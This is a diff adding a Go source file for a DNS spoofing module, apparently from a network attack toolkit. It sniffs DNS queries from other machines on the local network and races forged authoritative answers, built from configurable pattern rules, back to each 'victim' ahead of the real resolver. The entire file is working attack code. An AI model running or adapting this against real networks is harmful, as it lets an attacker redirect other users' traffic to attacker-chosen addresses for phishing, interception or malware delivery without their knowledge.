@@ -1 +1,291 @@
 package spoof
+
+import (
+	"bufio"
+	"bytes"
+	"errors"
+	"fmt"
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/miekg/dns"
+	"github.com/tinygoprogs/netmess/discovery"
+	"io"
+	"log"
+	"net"
+	"os"
+	"path"
+	"regexp"
+	"strings"
+)
+
+// default TTL of forged answers
+const DNSDefaultTTL = 300
+
+// A DNSRule maps query names to forged answers.
+//
+// Pattern syntax:
+//
+//	example.com     exact match
+//	*.example.com   wildcard (shell glob)
+//	/^ads?\./       regular expression
+type DNSRule struct {
+	Pattern string
+	A       []net.IP
+	AAAA    []net.IP
+	CNAME   string
+	re      *regexp.Regexp
+}
+
+// Each answer is either an IPv4 (A), an IPv6 (AAAA) address or a name
+// (CNAME).
+func NewDNSRule(pattern string, answers ...string) (*DNSRule, error) {
+	if pattern == "" || len(answers) == 0 {
+		return nil, errors.New("rtfm")
+	}
+	rule := DNSRule{Pattern: strings.ToLower(pattern)}
+	if l := len(pattern); l > 2 && pattern[0] == '/' && pattern[l-1] == '/' {
+		// names are matched lowercased
+		re, err := regexp.Compile("(?i)" + pattern[1:l-1])
+		if err != nil {
+			return nil, err
+		}
+		rule.re = re
+	} else if _, err := path.Match(rule.Pattern, ""); err != nil {
+		return nil, err
+	}
+	for _, a := range answers {
+		ip := net.ParseIP(a)
+		switch {
+		case ip == nil:
+			if rule.CNAME != "" {
+				return nil, errors.New("more than one CNAME")
+			}
+			rule.CNAME = dns.Fqdn(a)
+		case ip.To4() != nil:
+			rule.A = append(rule.A, ip.To4())
+		default:
+			rule.AAAA = append(rule.AAAA, ip)
+		}
+	}
+	return &rule, nil
+}
+
+// Parse a rule file, one rule per line:
+//
+//	<pattern> <answer> [answer ..]
+//
+// Empty lines and lines starting with '#' are ignored.
+func ParseDNSRules(r io.Reader) ([]*DNSRule, error) {
+	var rules []*DNSRule
+	scanner := bufio.NewScanner(r)
+	for lineno := 1; scanner.Scan(); lineno++ {
+		cols := strings.Fields(scanner.Text())
+		if len(cols) == 0 || strings.HasPrefix(cols[0], "#") {
+			continue
+		}
+		rule, err := NewDNSRule(cols[0], cols[1:]...)
+		if err != nil {
+			return nil, fmt.Errorf("line %d: %v", lineno, err)
+		}
+		rules = append(rules, rule)
+	}
+	return rules, scanner.Err()
+}
+
+// ParseDNSRules from the file at <name>.
+func LoadDNSRules(name string) ([]*DNSRule, error) {
+	f, err := os.Open(name)
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+	return ParseDNSRules(f)
+}
+
+// Match a query <name>, with or without trailing dot.
+func (r *DNSRule) Match(name string) bool {
+	name = strings.TrimSuffix(strings.ToLower(name), ".")
+	if r.re != nil {
+		return r.re.MatchString(name)
+	}
+	ok, _ := path.Match(strings.TrimSuffix(r.Pattern, "."), name)
+	return ok
+}
+
+// Forged answers for <q>, nil if the rule has nothing for that type.
+func (r *DNSRule) Answer(q dns.Question, ttl uint32) []dns.RR {
+	var rrs []dns.RR
+	name := q.Name
+	hdr := func(t uint16) dns.RR_Header {
+		return dns.RR_Header{Name: name, Rrtype: t, Class: dns.ClassINET, Ttl: ttl}
+	}
+	if r.CNAME != "" && q.Qtype != dns.TypeCNAME {
+		rrs = append(rrs, &dns.CNAME{Hdr: hdr(dns.TypeCNAME), Target: r.CNAME})
+		name = r.CNAME
+	}
+	switch q.Qtype {
+	case dns.TypeA, dns.TypeANY:
+		for _, ip := range r.A {
+			rrs = append(rrs, &dns.A{Hdr: hdr(dns.TypeA), A: ip})
+		}
+	case dns.TypeAAAA:
+		for _, ip := range r.AAAA {
+			rrs = append(rrs, &dns.AAAA{Hdr: hdr(dns.TypeAAAA), AAAA: ip})
+		}
+	case dns.TypeCNAME:
+		if r.CNAME != "" {
+			rrs = append(rrs, &dns.CNAME{Hdr: hdr(dns.TypeCNAME), Target: r.CNAME})
+		}
+	}
+	// a CNAME alone is fine, the victim resolves the target itself
+	return rrs
+}
+
+// First rule matching <name>, nil if none does.
+func dnsMatch(rules []*DNSRule, name string) *DNSRule {
+	for _, rule := range rules {
+		if rule.Match(name) {
+			return rule
+		}
+	}
+	return nil
+}
+
+// Forge a reply to <query> using the first matching rule per question, nil
+// if nothing matched.
+func dnsForge(rules []*DNSRule, ttl uint32, query *dns.Msg) *dns.Msg {
+	if query.Response || query.Opcode != dns.OpcodeQuery {
+		return nil
+	}
+	var answers []dns.RR
+	for _, q := range query.Question {
+		if rule := dnsMatch(rules, q.Name); rule != nil {
+			answers = append(answers, rule.Answer(q, ttl)...)
+		}
+	}
+	if len(answers) == 0 {
+		return nil
+	}
+	reply := new(dns.Msg)
+	reply.SetReply(query)
+	reply.Authoritative = true
+	reply.RecursionAvailable = true
+	reply.Answer = answers
+	return reply
+}
+
+// Races forged answers against the real resolver for every sniffed query
+// matching one of the Rules. Everything else is left alone.
+//
+// Implements Spoof interface.
+type DNS struct {
+	stats
+	Rules []*DNSRule
+	// TTL of forged answers
+	TTL      uint32
+	net      *discovery.Network
+	listener *discovery.Listener
+	// dnsReason, unless embedded into another spoofer
+	reason discovery.ListenerReason
+}
+
+func NewDNS(n *discovery.Network, rules ...*DNSRule) (*DNS, error) {
+	if len(rules) == 0 {
+		return nil, errors.New("no rules")
+	}
+	return &DNS{
+		Rules:  rules,
+		TTL:    DNSDefaultTTL,
+		net:    n,
+		reason: dnsReason,
+	}, nil
+}
+
+var dnsReason = discovery.ListenerReason{Class: discovery.InteractiveListener, Name: "spoof dns queries"}
+
+// start sniffing queries
+func (d *DNS) Start() error {
+	var err error
+	d.listener, err = d.net.Listeners.Add(d.reason, d.handle,
+		discovery.LayerFilter(layers.LayerTypeUDP))
+	return err
+}
+
+// stop sniffing queries; forged answers time out by themselves (TTL)
+func (d *DNS) Stop() {
+	d.listener.Remove()
+}
+
+func (d *DNS) handle(pkt gopacket.Packet) {
+	udplayer := pkt.Layer(layers.LayerTypeUDP)
+	ethlayer := pkt.Layer(layers.LayerTypeEthernet)
+	if udplayer == nil || ethlayer == nil {
+		return
+	}
+	udp := udplayer.(*layers.UDP)
+	eth := ethlayer.(*layers.Ethernet)
+	if udp.DstPort != 53 || bytes.Equal(eth.SrcMAC, d.net.Localhost.Mac) {
+		return
+	}
+	query := new(dns.Msg)
+	if err := query.Unpack(udp.Payload); err != nil {
+		return
+	}
+	reply := dnsForge(d.Rules, d.TTL, query)
+	if reply == nil {
+		return
+	}
+	payload, err := reply.Pack()
+	if err != nil {
+		log.Printf("dns pack err: %v", err)
+		return
+	}
+
+	lip, err := replyIP(pkt)
+	if err != nil {
+		return
+	}
+	leth := layers.Ethernet{
+		SrcMAC:       d.net.Localhost.Mac,
+		DstMAC:       eth.SrcMAC,
+		EthernetType: eth.EthernetType,
+	}
+	ludp := layers.UDP{
+		SrcPort: udp.DstPort,
+		DstPort: udp.SrcPort,
+	}
+	ludp.SetNetworkLayerForChecksum(lip)
+	d.write(d.net, &leth, lip, &ludp, gopacket.Payload(payload))
+	d.hit(pkt.NetworkLayer().NetworkFlow().Src().String())
+	log.Printf("[+] dns: %s -> %s", pkt.NetworkLayer().NetworkFlow().Src(),
+		query.Question[0].Name)
+}
+
+// serializable network layer, usable for transport checksums
+type ipLayer interface {
+	gopacket.NetworkLayer
+	gopacket.SerializableLayer
+}
+
+// IPv4 or IPv6 header answering the network layer of <pkt>.
+func replyIP(pkt gopacket.Packet) (ipLayer, error) {
+	switch ip := pkt.NetworkLayer().(type) {
+	case *layers.IPv4:
+		return &layers.IPv4{
+			Version:  4,
+			TTL:      64,
+			Protocol: ip.Protocol,
+			SrcIP:    ip.DstIP,
+			DstIP:    ip.SrcIP,
+		}, nil
+	case *layers.IPv6:
+		return &layers.IPv6{
+			Version:    6,
+			HopLimit:   64,
+			NextHeader: ip.NextHeader,
+			SrcIP:      ip.DstIP,
+			DstIP:      ip.SrcIP,
+		}, nil
+	}
+	return nil, errors.New("no ip layer")
+}